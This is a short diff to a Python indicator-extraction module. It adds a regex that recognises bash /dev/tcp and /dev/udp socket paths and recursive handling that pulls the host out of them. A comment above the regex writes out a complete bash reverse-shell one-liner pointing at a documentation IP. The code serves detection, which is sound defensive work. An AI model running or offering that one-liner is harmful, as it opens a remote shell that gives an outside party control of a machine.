@@ -45,6 +45,8 @@ HASH_NAMED_FILE = re.compile(
 _HASH_AND_NAME = re.compile(
     r"([0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})[:/](?=[^:\s])", re.IGNORECASE | re.ASCII
 )
+# bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
+_SHELL_SOCKET = re.compile(r"/dev/(?:tcp|udp)/([\w.-]{4,253})/\d{1,5}", re.ASCII)
 _IPV6 = re.compile(
     r"[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}(?:(?<=:)\d{1,3}(?:\.\d{1,3}){3})?(?:%\w{1,20})?(?:/\d{1,3})?",
     re.IGNORECASE | re.ASCII,
@@ -216,6 +218,8 @@ def _word(word: str, written: str, depth: int = 0) -> Iterator[Found]:
         yield from _word(word[match.end() :], written, depth + 1)
     elif ":" in word and _is_ipv6(word):
         yield from _whole(word)
+    elif match := _SHELL_SOCKET.fullmatch(word):
+        yield from _word(match[1], written, depth + 1)
     elif depth < 4 and (match := _LABELLED.match(word)):
         yield from _word(word[match.end() :], written, depth + 1)
     elif word.startswith("\\\\"):
